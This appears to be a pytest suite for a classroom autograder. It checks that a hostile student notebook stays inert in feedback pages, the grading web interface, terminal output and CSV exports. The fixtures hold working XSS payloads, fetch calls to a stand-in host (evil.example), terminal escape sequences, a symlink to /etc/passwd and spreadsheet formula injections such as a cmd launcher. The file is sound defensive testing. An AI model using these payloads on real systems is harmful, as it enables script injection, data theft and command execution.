"""Nothing that a student wrote is alive for staff: shown in a real browser, in a spreadsheet and in a terminal."""

import csv
import html
import io
import json
import re
import time

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from autograder.classroom import course, demo, gradebook, report, safe_html
from autograder.classroom.commands import run_report
from bench.crashes import make_class
from tests.browser import Browser
from tests.test_formgrader import TOKEN, Server
from tests.test_nbgrader import notebook_of

PS = demo.PROBLEM_SET
MATHJAX = "https://cdnjs.cloudflare.com/ajax/libs/mathjax/2.7.7/"  # nbconvert's own; the only address pages may ask for
DO = "document.title='owned';window.owned=1;fetch('https://evil.example/f');alert(1)"
QUOTED = DO.replace("'", "&#39;")
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
HTML = f"""<script>{DO}</script><script src="https://evil.example/s.js"></script>
<img src=x onerror="{DO}"><img src="https://evil.example/p.png"><image src="https://evil.example/q.png">
<svg onload="{DO}"><script>{DO}</script><a xlink:href="javascript:{DO}"><text>svg</text></a></svg>
<iframe src="javascript:{DO}"></iframe><iframe srcdoc="<script>parent.owned=1</script>"></iframe>
<iframe src="https://evil.example/i"></iframe><object data="data:text/html,<script>{DO}</script>"></object>
<embed src="https://evil.example/e"><meta http-equiv="refresh" content="0;url=https://evil.example/m">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/c.css">
<style>body {{ display: none }} @import url(https://evil.example/d.css);</style>
<div id="overlay" class="overlay modal-backdrop" style="position:fixed;inset:0;background:url(https://evil.example/b)">x</div>
<a href="javascript:{DO}">a link</a> <a href="JaVa&#9;script:{DO}">another</a> <a href="vbscript:{DO}">third</a>
<a href="data:text/html,<script>{DO}</script>">a page</a> <a href=" &#14; javascript:{DO}">fourth</a>
<details ontoggle="{DO}" open><summary onclick="{DO}">more</summary>text</details>
<video autoplay onloadstart="{DO}"><source src="https://evil.example/v" onerror="{DO}"></video>
<form action="https://evil.example/g"><input autofocus onfocus="{DO}"><button formaction="javascript:{DO}">go</button>
</form><math><mtext><table><mglyph><style><img src=x onerror="{DO}"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror='{QUOTED}'>"></noscript><b id="rnn_backward" onclick="{DO}">bold</b>
<textarea></textarea><img src=x onerror="{DO}"></textarea><xmp><img src=x onerror="{DO}"></xmp>
"""
MARKDOWN = f"""
[link](javascript:{DO.replace("(", "%28").replace(")", "%29")}) [two](<javascript:{DO}>) ![i](https://evil.example/j.png)
[ref][r] <javascript:{DO}> ![pasted](attachment:pixel.png)

[r]: javascript:window.owned=1

$h_t = \\tanh(W h_{{t-1}})$
$\\href{{javascript:window.owned=1}}{{click}}$ $\\&#104;ref{{javascript:window.owned=1}}{{click}}$
$\\class{{overlay}}{{x}} \\cssId{{rnn_backward}}{{x}} \\style{{position:fixed}}{{x}} \\require{{action}}$
$\\mmlToken{{mi}}[href="javascript:window.owned=1"]{{x}}$ \\`class "overlay" x\\`
"""
ATTACK = f"{HTML}\n{MARKDOWN}"
SHOUT = f"""\
import sys
print({HTML!r})
print("\\x1b[31mred\\x1b[0m \\x1b]0;owned\\x07 \\x1b]8;;https://evil.example\\x07link", file=sys.stderr)
print("\\x9b2J \\x1b[2J \\x1bc \\r over \\b \\u202e")
raise type({HTML!r}, (Exception,), {{}})({ATTACK!r})
"""


def attack(nb):
    """One submission full of all of it, in every place that a file has."""
    by_id = {cell.metadata.get("nbgrader", {}).get("grade_id"): cell for cell in nb.cells}
    by_id["written_derivation"].source = ATTACK
    by_id["written_errors"].source = ATTACK
    by_id["written_errors"]["attachments"] = {"pixel.png": {"image/png": PIXEL}, "s.svg": {"image/svg+xml": HTML}}
    by_id["rnn_step_forward_solution"].source = SHOUT
    by_id["rnn_forward_solution"].source = (
        f"def rnn_forward(*a):\n    def inner(): raise ValueError({ATTACK!r})\n"
        f"    inner.__code__ = inner.__code__.replace(co_name={HTML!r}, co_filename={HTML!r})\n    inner()\n"
    )
    by_id["word_embedding_forward_solution"].source = f"def word_embedding_forward(*a):\n    return {HTML!r}, None\n"
    marks = {"grade": True, "solution": False, "locked": True, "task": False, "points": 1, "grade_id": HTML}
    nb.cells.append(new_code_cell("1"))
    nb.cells[-1].metadata.update({"nbgrader": marks, "tags": [HTML], HTML: HTML})
    output = {"text/html": HTML, "image/svg+xml": HTML, "application/javascript": DO, "text/markdown": ATTACK}
    shown = nbformat.v4.new_output("display_data", data=output)
    nb.cells += [new_markdown_cell(ATTACK), new_raw_cell(ATTACK, metadata={"raw_mimetype": "text/html"})]
    nb.cells.append(new_code_cell(f"import matplotlib.pyplot as plt\nplt.title({HTML!r})\n", outputs=[shown]))
    nb.metadata.update(
        title=HTML, kernelspec={"name": HTML, "language": HTML, "display_name": HTML}, widgets={HTML: HTML}
    )


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """A course of one, graded and with feedback, and its outcomes."""
    root = tmp_path_factory.mktemp("attacked") / "course"
    make_class(root, ("avocet",))
    (root / "submitted" / "avocet").rename(root / "submitted" / "egret")
    path = notebook_of(root, "egret")
    nb = nbformat.read(path, 4)
    attack(nb)
    path.write_text(json.dumps(nb))
    (path.parent / "<img src=x onerror=alert(1)>.txt").symlink_to("/etc/passwd")
    (path.parent / "page.svg").write_text(HTML)
    outcomes = course.grade_and_record(root, PS, progress=False)
    with gradebook.open_gradebook(root) as book:
        book.update_or_create_student("egret", first_name=HTML, last_name=HTML)
        book.find_comment("written_errors", PS, PS, "egret").manual_comment = "Well seen."
        book.db.commit()
    gradebook.generate_feedback(root, PS)
    return root, outcomes


def looked_at(browser, url):
    browser.visit(url)
    title = browser.run("document.title")
    browser.touch_everything()
    after = browser.run("[document.title, window.owned || 0, getComputedStyle(document.body).display, location.href]")
    fixed = "[...document.querySelectorAll('.overlay, #overlay, [style*=inset]')].length"
    return title, after, browser.run(fixed)


def assert_dead(browser, url, own):
    title, after, overlays = looked_at(browser, url)
    after[3] = after[3].partition("?")[0]  # formgrader notes there which cell is looked at
    assert title != "owned" and after == [title, 0, "block", url.partition("?")[0]]
    assert browser.dialogs == []
    assert overlays == 0
    strangers = {request for request in browser.requests if not request.startswith((*own, "data:image/", MATHJAX))}
    assert strangers == set()
    assert browser.run("document.body.innerText").count("onerror=") >= 5  # it is there, as text


def test_the_instrument_sees_what_is_alive(tmp_path):
    """The same attack on a page that is not made harmless."""
    page = tmp_path / "page.html"
    page.write_text(f"<title>page</title>{HTML.replace('<meta', '<metta').replace('<textarea>', '')}")
    with Browser(tmp_path, ("file://",)) as browser:
        _, after, overlays = looked_at(browser, page.as_uri())
    assert after[:3] == ["owned", 1, "none"] and overlays == 1
    assert browser.dialogs and any(request.startswith("https://evil.example/") for request in browser.requests)


def test_a_feedback_page_is_dead_in_a_browser(attacked, tmp_path):
    page = attacked[0] / "feedback" / "egret" / PS / f"{PS}.html"
    with Browser(tmp_path, ("file://",)) as browser:
        assert_dead(browser, page.as_uri(), (page.as_uri(), page.parent.as_uri()))
        pictures = browser.run(
            "[...document.images].filter(i => i.naturalWidth == 1 && i.src.startsWith('data:')).length"
        )
        assert pictures == 1  # the one that was pasted into an answer
        text = browser.run("document.body.innerText")
        assert "$h_t = \\tanh(W h_{t-1})$" in text and "Well seen." in text


def test_formgrader_is_dead_in_a_browser(attacked, tmp_path):
    server = Server(attacked[0], tmp_path)
    try:
        server.wait()
        own = f"http://127.0.0.1:{server.port}/"
        with gradebook.open_gradebook(attacked[0]) as book:
            submission = book.find_submission_notebook(PS, PS, "egret").id
        with Browser(tmp_path, (own,)) as browser:
            browser.visit(f"{own}login?token={TOKEN}&next=%2Fformgrader%2Fmanage_submissions%2F{PS}")
            assert browser.wait_for("onerror=").count("onerror=") >= 2  # the student's name
            browser.touch_everything()
            assert browser.dialogs == [] and not browser.run("window.owned")
            assert_dead(browser, f"{own}formgrader/submissions/{submission}/?index=0", (own,))
            scored = browser.run("document.querySelectorAll('input.score').length")
            assert scored == 14 and browser.run("document.querySelectorAll('[id=rnn_backward]').length") == 1
    finally:
        server.stop()


CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def test_a_terminal_is_sent_no_controls(attacked, capsys):
    from argparse import Namespace

    root, outcomes = attacked
    run_report(Namespace(course=str(root), problem_set=PS))
    said = capsys.readouterr()
    assert "egret" in said.out
    for text in (said.out, said.err, report.result_text(outcomes[0].result), (root / "grades.csv").read_text()):
        assert not CONTROLS.search(text.replace("\r\n", "\n")), CONTROLS.search(text)
    printed = (root / "results" / PS / "egret.json").read_text()
    assert "\\u001b" not in printed and "\\u009b" not in printed and "red" in printed


@pytest.mark.parametrize(
    "formula", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "=cmd|' /C calc'!A0", "\u200b=1", "\x1b[0m=1"]
)
def test_no_cell_of_a_table_is_a_formula(attacked, tmp_path, formula):
    outcome = course.Outcome(formula, None, problem=f"{formula} was expected\n=1+1")
    report.write_csv([outcome, *attacked[1]], tmp_path / "grades.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "grades.csv").read_text())))
    assert len(rows) == 3
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "|", "%")), cell


def test_a_very_long_text_is_shown_as_text_and_at_once():
    long = "attachment:a <b>" * (2_000_000 // 16)
    start = time.process_time()
    shown = safe_html.markdown({}, long)
    assert time.process_time() - start < 5
    assert shown == f"<pre>{html.escape(long)}</pre>"
    assert "<b>bold</b>" in safe_html.markdown({}, "<b>bold</b>")


@pytest.mark.parametrize("code", ["." * 400_000, "a." * 200_000, "x = 1\n" * 70_000], ids=("dots", "words", "lines"))
def test_very_long_code_is_shown_without_colours_and_at_once(code):
    start = time.process_time()
    shown = safe_html.highlight(f"<b>{code}")
    assert time.process_time() - start < 5
    assert shown == f'<div class="highlight"><pre>&lt;b&gt;{code}</pre></div>'


def test_code_is_shown_in_colours():
    shown = safe_html.highlight("def f(x):\n    return '<b>'\n", metadata={})
    assert '<span class="k">def</span>' in shown and "&lt;b&gt;" in shown and shown.startswith('<div class=" highlight')


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        (r"$\href{javascript:x}{y}$", r"$\text{href}{javascript:x}{y}$"),
        (r"$\&#104;ref{x}{y}$ &bsol;class{x}", r"$\text{href}{x}{y}$ \text{class}{x}"),
        ("a ` b", "a \u02cb b"),
        (r"<code>`\href` &#104;</code>", r"<code>`\href` h</code>"),
        (r"$\hrefs \classes \tanh \frac{1}{2} &lt; 3$", r"$\hrefs \classes \tanh \frac{1}{2} &lt; 3$"),
        ("&lt;b&gt; &amp;lt; &quot;", "&lt;b&gt; &amp;lt; &quot;"),
        ("caf&eacute; &#955;", "café λ"),
    ],
)
def test_formulas_stay_and_what_acts_in_them_goes(source, shown):
    assert safe_html.clean(source) == shown
